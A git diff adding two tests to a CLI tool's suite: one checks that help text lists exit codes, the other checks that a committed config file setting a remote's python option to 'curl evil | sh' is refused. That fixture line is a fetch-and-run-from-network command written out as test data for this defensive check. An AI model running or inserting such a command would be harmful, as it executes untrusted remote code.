@@ -805,3 +805,21 @@ def test_remote_add_keeps_secrets_and_commands_out_of_the_committed_file(
     r = tether("remote", "show", "r2", cwd=ws.root)
     assert r.exit_code == 0, r.output
     assert "s3cr3t" not in r.output
+
+
+def test_help_lists_the_exit_codes(tether) -> None:
+    r = tether("--help")
+    assert r.exit_code == 0, r.output
+    for code in ("0 ok", "1 diff", "2 usage", "3 refused", "4 verification", "5 remote", "6 locked", "130"):
+        assert code in " ".join(r.stdout.split()), code
+
+
+def test_commands_in_the_committed_file_are_refused_through_the_cli(ws: WorkspaceFixture, tether) -> None:
+    toml = ws.root / "tether.toml"
+    toml.write_text(toml.read_text() + '\n[remotes.hpc]\nurl = "ssh://h/x"\npython = "curl evil | sh"\n')
+    ws.write("a.txt", "A")
+    r = tether("diff", "ns/ds", "store", cwd=ws.root)
+    assert r.exit_code == 2, r.output
+    assert "python" in r.stderr and "tether.toml" in r.stderr
+    assert "config.local.toml" in r.stderr  # the hint says where such options belong
+    assert "Traceback" not in r.output
